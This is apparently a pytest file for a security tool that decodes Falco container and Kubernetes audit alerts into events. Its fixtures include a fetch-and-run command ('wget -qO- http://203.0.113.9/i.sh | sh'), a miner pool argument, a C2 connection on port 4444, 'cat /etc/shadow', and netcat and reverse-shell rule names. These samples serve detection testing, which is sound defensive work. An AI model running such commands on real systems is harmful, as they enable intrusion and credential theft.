"""Falco's alerts: which mean an execution, where a connection went, and whose container it was."""

import json
from pathlib import Path
from typing import Any

import pytest

from tidewaiter.event import (
    ContainerExec,
    ContainerFacts,
    Event,
    ImageClaim,
    NetworkFlow,
    Pod,
    ProcessExec,
    User,
    Where,
)
from tidewaiter.sources import RecordError
from tidewaiter.sources.falco import SOURCE, decode

SAMPLES = Path(__file__).parents[1] / "samples" / "falco"
WHERE = Where("falco", "alerts.jsonl", 1)
CONTAINER = "5c1f0a9be37d" + "46e2" * 13
DIGEST = "sha256:" + "3fa9" * 16
TIME = "2026-09-21T14:13:44.074027776Z"
TIME_NS = 1_790_000_024_074_027_776


def decoded(record: dict[str, Any] | bytes, where: Where = WHERE) -> list[Event]:
    """The events of one record."""
    return list(decode(record if isinstance(record, bytes) else json.dumps(record).encode(), where))


def alerted(alert: dict[str, Any] | None = None, where: Where = WHERE, /, **fields: Any) -> list[Event]:
    """The events of an alert about a container; `a__b` stands for the field `a.b`, None takes a field away."""
    named = {name.replace("__", "."): value for name, value in fields.items()}
    record = {
        "hostname": "node-a",
        "priority": "Notice",
        "rule": "A rule",
        "source": "syscall",
        "time": TIME,
        "output": "container.id=aaaaaaaaaaaa evt.type=connect fd.name=10.0.0.1:1->203.0.113.66:6",
        "output_fields": {"container.id": CONTAINER[:12]} | named,
    }
    return decoded({key: value for key, value in (record | (alert or {})).items() if value is not None}, where)


def executed(alert: dict[str, Any] | None = None, where: Where = WHERE, /, **fields: Any) -> ProcessExec:
    """The execution in such an alert."""
    (event,) = alerted(alert, where, **({"evt__type": "execve", "proc__name": "sh"} | fields))
    assert isinstance(event, ProcessExec)
    return event


def flow(**fields: Any) -> NetworkFlow:
    """The connection in such an alert."""
    (event,) = alerted(**({"evt__type": "connect"} | fields))
    assert isinstance(event, NetworkFlow)
    return event


def sample(name: str) -> list[list[Event]]:
    """The events of each record of a sample file."""
    return [decoded(line) for line in (SAMPLES / name).read_bytes().splitlines()]


def test_spawned_shell_is_an_execution() -> None:
    """Container, pod, image, process and moment of the best known alert."""
    (event,) = sample("0.41-syscall.in.jsonl")[0]
    assert event == ProcessExec(
        time_ns=TIME_NS,
        cluster="default",
        node="node-a",
        where=WHERE,
        container_id_prefix=CONTAINER[:12],
        pod=Pod(namespace="shop", name="web-7d9f8b6c5-x2x4z", container_name="web"),
        image=ImageClaim(reference="registry.example/shop/web:1.4"),
        exe="/bin/busybox",
        args=("sh", "-c", "wget", "-qO-", "http://203.0.113.9/i.sh", "|", "sh"),
        parent_exe="containerd-shim",
        uid=0,
        is_upper_layer=False,
    )


def test_dropped_binary_is_in_the_upper_layer() -> None:
    """The rule about drift tells it by the flags of the execution, with argv[0], pids and the parent's path."""
    (event,) = sample("0.41-syscall.in.jsonl")[1]
    assert isinstance(event, ProcessExec)
    assert event.is_upper_layer is True
    assert event.exe == event.args[0]
    assert event.args[1:] == ("-o", "pool.site.example:3333")
    assert (event.pid, event.parent_pid, event.parent_exe) == (4110, 4100, "/bin/busybox")


@pytest.mark.parametrize(
    ("fields", "is_upper_layer"),
    [
        ({}, None),
        ({"proc.is_exe_upper_layer": True}, True),
        ({"proc.is_exe_upper_layer": "true"}, True),
        ({"proc.is_exe_upper_layer": False}, False),
        ({"proc.is_exe_upper_layer": "false"}, False),
        ({"proc.is_exe_upper_layer": "<NA>"}, None),
        ({"evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}, True),
        ({"evt.arg.flags": "EXE_LOWER_LAYER"}, False),
        ({"evt.arg.flags": "EXE_WRITABLE"}, None),
        ({"evt.arg.flags": "EXE_FROM_MEMFD", "proc.exepath": "memfd:x"}, True),
        ({"proc.is_exe_from_memfd": True}, True),
        ({"proc.is_exe_from_memfd": True, "proc.exepath": "memfd:runc_cloned:/proc/self/exe"}, None),
        ({"proc.is_exe_from_memfd": True, "proc.is_exe_upper_layer": False}, True),
    ],
)
def test_layer_of_the_binary_is_told_in_many_ways(fields: dict[str, Any], is_upper_layer: bool | None) -> None:
    """A truth, its text, or a flag; a memfd is in no layer, but the runtime's copy of itself is no drift."""
    assert executed(**fields).is_upper_layer is is_upper_layer


@pytest.mark.parametrize(
    ("fields", "is_execution"),
    [
        ({"evt.type": "execve"}, True),
        ({"evt.type": "execveat", "evt.res": "SUCCESS", "evt.rawres": 0}, True),
        ({"evt.type": "execve", "evt.res": "ENOENT"}, False),
        ({"evt.type": "execve", "evt.rawres": -2}, False),
        ({"evt.type": "execve", "evt.rawres": "-2"}, False),
        ({"evt.type": "openat", "fd.name": "/etc/shadow"}, False),
        ({"evt.type": "openat"}, False),
        ({"evt.type": "container"}, False),
        ({"evt.type": "clone"}, False),
        ({"evt.type": None}, True),
        ({"evt.type": "<NA>"}, True),
        ({}, True),
        ({"fd.name": "/etc/shadow"}, False),
        ({"fd.name": None}, True),
        ({"fd.l4proto": "tcp"}, False),
        ({"proc.cmdline": None}, False),
        ({"proc.cmdline": ["cat"]}, False),
    ],
)
def test_naming_a_process_is_not_executing_it(fields: dict[str, Any], is_execution: bool) -> None:
    """The type of the event decides; without it, a command line and no file or connection."""
    events = alerted(**({"proc.cmdline": "cat /etc/shadow", "proc.name": "cat"} | fields))
    assert [type(event) for event in events] == [ProcessExec] * is_execution


@pytest.mark.parametrize(
    ("fields", "args"),
    [
        ({"proc.name": "sh", "proc.cmdline": "sh -c id"}, ("sh", "-c", "id")),
        ({"proc.name": "sh", "proc.cmdline": "sh"}, ("sh",)),
        ({"proc.name": "sh", "proc.cmdline": "sh -c id", "proc.exe": "/bin/sh"}, ("/bin/sh", "-c", "id")),
        ({"proc.name": "sh", "proc.args": "-c id", "proc.cmdline": "other"}, ("sh", "-c", "id")),
        ({"proc.name": "sh", "proc.args": ""}, ("sh",)),
        ({"proc.name": "Web Content", "proc.cmdline": "Web Content -x"}, ("Web Content", "-x")),
        ({"proc.name": None, "proc.cmdline": "sh  -c   id"}, ("sh", "-c", "id")),
        ({"proc.name": "shell", "proc.cmdline": "sh -c id"}, ("sh", "-c", "id")),
        ({"proc.name": None, "proc.exe": "/x"}, ("/x",)),
        ({"proc.name": None}, ()),
    ],
)
def test_command_line_is_split_at_blanks(fields: dict[str, Any], args: tuple[str, ...]) -> None:
    """The name of the process may hold blanks itself; argv[0] takes its place where it is told."""
    assert executed(**fields).args == args


@pytest.mark.parametrize(
    ("fields", "exe"),
    [
        ({"proc.exepath": "/bin/busybox", "proc.name": "sh", "proc.exe": "/lie"}, "/bin/busybox"),
        ({"proc.exepath": "<NA>", "proc.name": "sh", "proc.exe": "/lie"}, "sh"),
        ({"proc.exepath": "", "proc.name": None, "proc.exe": "/lie"}, None),
    ],
)
def test_argv_0_is_no_path(fields: dict[str, Any], exe: str | None) -> None:
    """`proc.exe` is what the process calls itself."""
    assert executed(**fields).exe == exe


@pytest.mark.parametrize(
    ("uid", "known"),
    [(0, 0), ("1000", 1000), (4294967295, None), (-1, None), ("<NA>", None), (True, None), (2**70, None)],
)
def test_user_may_be_unknown(uid: Any, known: int | None) -> None:
    """All ones, a negative number, text that is no number."""
    assert executed(user__uid=uid).uid == known


def test_connection_goes_to_the_server_of_the_pair() -> None:
    """`fd.name` is client and server; `fd.rport` of a container's socket is the wrong one (seen on real alerts)."""
    (event,) = sample("0.41-syscall.in.jsonl")[4]
    assert isinstance(event, NetworkFlow)
    assert (event.dst_ip, event.dst_port, event.src_ip) == ("10.96.0.1", 443, "10.0.1.7")
    assert (event.protocol, event.direction, event.is_refused) == ("tcp", "egress", False)
    assert event.exe == "/bin/busybox"


def test_fields_of_the_server_do_as_well() -> None:
    """Address, port, name and refusal, beside a whole container id, a registry digest and a short image id."""
    (event,) = sample("0.41-syscall.in.jsonl")[5]
    assert isinstance(event, NetworkFlow)
    assert (event.dst_ip, event.dst_port, event.dst_name) == ("203.0.113.9", 4444, "c2.site.example")
    assert event.is_refused
    assert (event.container_id, event.container_id_prefix) == (CONTAINER, None)
    assert event.image == ImageClaim(
        reference="registry.example/shop/web:1.4",
        repo_digest=DIGEST,
        repository="registry.example/shop/web",
        config_digest_prefix="71c071c071c0",
    )


@pytest.mark.parametrize(
    ("fields", "server"),
    [
        ({"fd.name": "10.0.0.1:44->203.0.113.4:443"}, ("203.0.113.4", 443, "10.0.0.1")),
        ({"fd.name": "2001:db8::1:44->2001:db8::4:443"}, ("2001:db8::4", 443, "2001:db8::1")),
        ({"fd.name": "::ffff:10.0.0.1:44->::ffff:203.0.113.4:443"}, ("203.0.113.4", 443, "10.0.0.1")),
        ({"fd.name": "x->y", "fd.sip": "203.0.113.4", "fd.sport": "443"}, ("203.0.113.4", 443, None)),
        ({"fd.sip": "203.0.113.4", "fd.cip": "10.0.0.1"}, ("203.0.113.4", None, "10.0.0.1")),
        ({"fd.sip": "<NA>", "fd.rip": "203.0.113.4", "fd.rport": 443}, ("203.0.113.4", 443, None)),
        ({"fd.sip": "203.0.113.4", "fd.sport": 70000}, ("203.0.113.4", None, None)),
        ({"fd.sip": "203.0.113.4", "fd.sport": [443]}, ("203.0.113.4", None, None)),
    ],
)
def test_server_is_found_in_many_forms(fields: dict[str, Any], server: tuple[str, int | None, str | None]) -> None:
    """The pair, the server's fields, and the remote side's last."""
    event = flow(**fields)
    assert (event.dst_ip, event.dst_port, event.src_ip) == server


@pytest.mark.parametrize("fields", [{}, {"fd.name": "/run/docker.sock"}, {"fd.sip": "c2.example"}, {"fd.name": "a->b"}])
def test_no_address_is_no_connection(fields: dict[str, Any]) -> None:
    """A file, a socket of the host, a name instead of an address."""
    assert alerted(**({"evt.type": "connect"} | fields)) == []


@pytest.mark.parametrize(
    ("evt_type", "rule", "direction"),
    [
        ("connect", "Inbound", "egress"),
        ("sendto", "A rule", "egress"),
        ("accept4", "Outbound", "ingress"),
        ("dup2", "Redirect STDOUT/STDIN to Network Connection in Container", "unknown"),
        ("recvfrom", "A rule", "unknown"),
        (None, "Outbound Connection to C2 Servers", "egress"),
        (None, "Contact K8S API Server From Container", "egress"),
        (None, "Outbound or Inbound Traffic not to Authorized Server Process and Port", "unknown"),
        (None, "Netcat", "unknown"),
    ],
)
def test_direction_is_the_calls_or_the_rules(evt_type: str | None, rule: str, direction: str) -> None:
    """Where neither says who began, it is not proven."""
    (event,) = alerted({"rule": rule}, **{"evt.type": evt_type, "fd.name": "10.0.0.1:44->203.0.113.4:443"})
    assert isinstance(event, NetworkFlow)
    assert event.direction == direction
    assert event.is_initiator_proven is (direction != "unknown")


def test_listening_is_no_connection() -> None:
    """A bound socket has a peer of no meaning."""
    assert alerted(**{"evt.type": "bind", "fd.sip": "192.0.2.1"}) == []


@pytest.mark.parametrize(
    ("fields", "is_refused"),
    [
        ({"evt.res": "SUCCESS"}, False),
        ({"evt.res": "EINPROGRESS", "evt.rawres": -115}, False),
        ({"evt.res": "ECONNREFUSED"}, True),
        ({"evt.rawres": -111}, True),
        ({"evt.res": "EPERM"}, True),
        ({"evt.res": ["EPERM"]}, False),
    ],
)
def test_refusal_is_the_calls_result(fields: dict[str, Any], is_refused: bool) -> None:
    """EINPROGRESS is a connection that is not finished."""
    assert flow(**({"fd.sip": "203.0.113.4"} | fields)).is_refused is is_refused


def test_execution_with_a_connection_is_both() -> None:
    """A rule that shows the socket of a spawned process; nobody says who opened it."""
    events = alerted(**{"evt.type": "execve", "proc.name": "bash", "fd.rip": "203.0.113.4", "fd.rport": 4444})
    assert [type(event) for event in events] == [ProcessExec, NetworkFlow]


@pytest.mark.parametrize("container", ["", "host"])
def test_process_of_the_host_is_no_event(container: str) -> None:
    """Not even where its Kubernetes fields are filled."""
    assert alerted(**{"container.id": container, "evt.type": "execve", "k8s.pod.name": "web-0"}) == []
    assert sample("0.41-syscall.in.jsonl")[3] == []


def test_container_that_is_not_told_stays_unknown() -> None:
    """A rule whose output names no container gives an event of no container; a pod in it counts."""
    event = executed(**{"container.id": None, "k8s.pod.name": "web-0", "k8s.pod.uid": "u-1"})
    assert (event.container_id, event.container_id_prefix) == (None, None)
    assert event.pod == Pod(name="web-0", uid="u-1")


@pytest.mark.parametrize("container", ["<NA>", "c1", "XYZ", 7])
def test_unreadable_container_takes_the_pod_with_it(container: Any) -> None:
    """Kubernetes names come through the container's id."""
    event = executed(**{"container.id": container, "k8s.pod.name": "web-0"})
    assert (event.container_id, event.container_id_prefix, event.pod) == (None, None, None)


def test_name_of_the_container_is_the_pod_specs() -> None:
    """The kubelet's long form holds it; the deployment is the workload."""
    name = "k8s_web_web-0_shop_75cf460d-dd27-41e7-9d29-19b517dc730f_19"
    event = executed(**{"container.name": name, "k8s.pod.name": "web-0", "k8s.deployment.name": "web"})
    assert event.pod == Pod(name="web-0", container_name="web", workload_kind="Deployment", workload="web")
    assert executed(**{"container.name": name}).pod is None


@pytest.mark.parametrize(
    ("fields", "claim"),
    [
        ({"container.image.repository": "nginx"}, ImageClaim(reference="nginx")),
        ({"container.image.repository": "nginx", "container.image.tag": "<NA>"}, ImageClaim(reference="nginx")),
        ({"container.image.digest": "<NA>", "container.image.tag": "1"}, None),
        ({"container.image.digest": DIGEST}, ImageClaim(repo_digest=DIGEST)),
        ({"container.image.digest": DIGEST[:-1]}, None),
        ({"container.image.id": "71c071c071c0"}, ImageClaim(config_digest_prefix="71c071c071c0")),
        ({"container.image.id": "71c0" * 16}, ImageClaim(config_digest="sha256:" + "71c0" * 16)),
        ({"container.image.id": "busybox"}, None),
        ({"container.image.repository": "n" * 5000}, None),
        ({"container.image.repository": None}, None),
    ],
)
def test_image_fields_may_be_late_or_empty(fields: dict[str, Any], claim: ImageClaim | None) -> None:
    """What is not a digest, or longer than any name, is not claimed."""
    assert executed(**fields).image == claim


def test_privileged_and_host_root_are_facts() -> None:
    """Told by the rule about privileged containers, without an execution or a start."""
    (facts,) = sample("0.41-syscall.in.jsonl")[9]
    assert isinstance(facts, ContainerFacts)
    assert (facts.privileged, facts.host_root_mount, facts.runtime) == (True, True, "containerd")
    assert (facts.created_ns, facts.started_ns) == (None, None)
    assert alerted(**{"container.privileged": "false", "container.mounts": "/data:/host::true:rprivate"}) == []
    (facts,) = alerted(**{"container.privileged": "true"})
    assert isinstance(facts, ContainerFacts)
    assert (facts.privileged, facts.host_root_mount) == (True, None)


@pytest.mark.parametrize(
    ("fields", "hostname", "node"),
    [
        ({}, "falco-xczjd", "falco-xczjd"),
        ({"evt.hostname": "node-b"}, "falco-xczjd", "node-b"),
        ({"evt.hostname": "node-b", "k8s.node.name": "node-c"}, "falco-xczjd", "node-c"),
        ({"k8s.node.name": "<NA>"}, None, "node-z"),
    ],
)
def test_node_is_named_best_by_kubernetes(fields: dict[str, Any], hostname: str | None, node: str) -> None:
    """Then by the event, then by Falco's own host name, then by the user."""
    where = Where("falco", "alerts.jsonl", 1, "blue", "node-z")
    event = executed({"hostname": hostname}, where, **fields)
    assert (event.node, event.cluster) == (node, "blue")


@pytest.mark.parametrize(
    ("alert", "evt_time"),
    [
        ({"time": TIME}, 1),
        ({"time": "2026-09-21T16:13:44.074027776+02:00"}, None),
        ({"time": "2026-09-21T14:13:44.074027776Z+2"}, TIME_NS),
        ({"time": None}, TIME_NS),
        ({"time": 5}, str(TIME_NS)),
    ],
)
def test_time_falls_back_on_the_events_own(alert: dict[str, Any], evt_time: Any) -> None:
    """`time` first; an unreadable one gives way to `evt.time` in nanoseconds."""
    assert executed(alert, **{"evt.time": evt_time}).time_ns == TIME_NS


@pytest.mark.parametrize("evt_time", [None, 1_618_347_519_000_000, -1, 2**62 * 4, "soon", 1.6e18])
def test_alert_without_a_credible_time_is_rejected(evt_time: Any) -> None:
    """Microseconds taken for nanoseconds are in 1970."""
    with pytest.raises(RecordError):
        executed({"time": "2021-04-13T20:58:00.746609046Z+2"}, **{"evt.time": evt_time})


def test_older_and_forwarded_forms_are_the_same() -> None:
    """Before `source` and `hostname` existed, and as falcosidekick writes it, with an id and the operator's fields."""
    shell, write = sample("0.28-before-source.in.jsonl")
    assert [type(event) for event in shell] == [ProcessExec]
    assert (shell[0].node, write) == (None, [])
    (event,) = sample("falcosidekick-2.29.in.jsonl")[0]
    assert isinstance(event, NetworkFlow)
    assert event.native_id == "6b0b5f6e-7f6b-4c1f-9a1f-0c2f8d0f6a11"
    assert (event.dst_ip, event.direction, event.node) == ("203.0.113.13", "egress", "node-b")


def test_session_in_a_pod_is_told_by_the_audit_plugin() -> None:
    """Who, from where, with what, into which container; the host name is where Falco runs."""
    session, denied, other = sample("k8saudit-0.11.in.jsonl")
    assert session == [
        ContainerExec(
            time_ns=TIME_NS,
            cluster="default",
            node=None,
            where=WHERE,
            native_id="1f2b3c4d-0000-4000-8000-000000000001",
            pod=Pod(namespace="shop", name="web-7d9f8b6c5-x2x4z", container_name="web"),
            command=("sh",),
            user=User(
                name="alice@site.example",
                groups=("system:authenticated", "oncall"),
                source_ip="198.51.100.30",
                user_agent="kubectl/v1.30.0",
            ),
        )
    ]
    assert (denied, other) == ([], [])


def test_audit_fields_may_be_lists() -> None:
    """Newer plugins print lists; an attach has no command."""
    fields = {
        "ka.target.resource": "pods",
        "ka.target.subresource": "attach",
        "ka.target.name": "web-0",
        "ka.user.groups": ["a", 1, "b"],
        "ka.sourceips": ["x", "198.51.100.30"],
    }
    (event,) = alerted({"source": None}, **fields)
    assert isinstance(event, ContainerExec)
    assert event.user == User(groups=("a", "b"), source_ip="198.51.100.30")
    assert event.command == ()


@pytest.mark.parametrize("source", ["internal", "aws_cloudtrail", "okta", 5])
def test_other_sources_say_nothing(source: Any) -> None:
    """Falco's own metrics, and plugins about other things."""
    assert alerted({"source": source}, **{"evt.type": "execve", "proc.name": "sh"}) == []


def test_text_for_people_is_not_read() -> None:
    """What `output` says of containers and addresses is not evidence."""
    assert alerted() == []
    assert decoded({"rule": "r", "priority": "p", "time": TIME, "output": "fd.name=10.0.0.1:1->203.0.113.66:6"}) == []


@pytest.mark.parametrize(
    "record",
    [
        b"",
        b"\x00",
        b"[]",
        b"7",
        b'{"output_fields":[]}',
        b'{"output_fields":{"evt.type":"execve","proc.name":"sh"}}',
        b'{"output_fields":{"proc.name":"\xff"}}',
        b'{"output_fields":{"x":' + b"[" * 100_000,
        b'{"source":"k8s_audit","output_fields":{"ka.target.resource":"pods","ka.target.subresource":"exec"}}',
    ],
)
def test_rubbish_is_rejected(record: bytes) -> None:
    """Broken JSON, wrong types, no time: one kind of error."""
    with pytest.raises(RecordError):
        decoded(record)


def test_odd_types_make_fields_unknown() -> None:
    """Every field that is read may be of any type without a record being lost."""
    odd: list[Any] = [None, True, 1, -1.5, 2**80, "", "<NA>", [], {}, [[]], "x" * 300, "\x00"]
    names = (SAMPLES / "0.41-syscall.in.jsonl").read_bytes().splitlines()
    for line in names:
        record = json.loads(line)
        for name in record["output_fields"]:
            for value in odd:
                changed = record | {"output_fields": record["output_fields"] | {name: value}}
                decoded(json.dumps(changed).encode())


def test_samples_are_recognised() -> None:
    """Alerts by their rule, priority and fields; other things with a rule are not Falco's."""
    assert SOURCE.recognise is not None
    for path in SAMPLES.glob("*.in.jsonl"):
        assert all(SOURCE.recognise(json.loads(line)) for line in path.read_bytes().splitlines())
    assert SOURCE.recognise({"rule": "r", "priority": "Notice", "output": "text", "time": TIME})
    assert not SOURCE.recognise({"rule": {"name": "r"}, "priority": 3, "output_fields": {}})
    assert not SOURCE.recognise({"rule": "r", "priority": "Notice"})


def test_alerts_of_the_website_are_decoded(shared: Path) -> None:
    """The public alerts: shells in containers, one session, one unreadable time, and what is no behaviour."""
    assert SOURCE.recognise is not None
    lines = (shared / "samples" / "falco_alerts" / "falco-website-alerts.jsonl").read_bytes().splitlines()
    kinds: list[str] = []
    for line in lines:
        assert SOURCE.recognise(json.loads(line))
        try:
            kinds += [type(event).__name__ for event in decoded(line)] or ["none"]
        except RecordError:
            kinds.append("rejected")
    assert sorted(kinds) == ["ContainerExec"] + ["ProcessExec"] * 5 + ["none"] * 5 + ["rejected"]
    (event,) = decoded(lines[11])
    assert isinstance(event, ProcessExec)
    assert (event.container_id_prefix, event.args[:2]) == ("ee97d9c4186f", ("sh", "-c"))
    assert event.image == ImageClaim(reference="docker.io/library/alpine")
